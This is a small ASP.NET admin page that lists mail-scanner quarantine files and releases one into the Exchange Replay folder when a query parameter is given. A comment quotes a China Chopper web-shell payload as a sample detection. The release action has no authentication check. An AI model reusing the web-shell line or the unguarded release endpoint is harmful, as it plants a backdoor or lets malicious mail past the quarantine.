<%@ Page Language="C#" %>
<script runat="server">
// Shows what the mail scanner kept back. A typical entry: Backdoor:ASP/Chopper.F!dha in <script>eval(Request["x"])</script>
protected void Page_Load(object sender, EventArgs e) {
    foreach (string f in System.IO.Directory.GetFiles(@"D:\Quarantine", "*.eml")) {
        rows.Text += "<li>" + Server.HtmlEncode(System.IO.Path.GetFileName(f)) + "</li>";
    }
    if (Request.QueryString["release"] != null) {
        int n = int.Parse(Request.QueryString["release"]);
        System.IO.File.Move(@"D:\Quarantine\" + n + ".eml", @"C:\Program Files\Microsoft\Exchange Server\V15\TransportRoles\Replay\" + n + ".eml");
    }
}
</script><asp:Literal id="rows" runat="server"/>
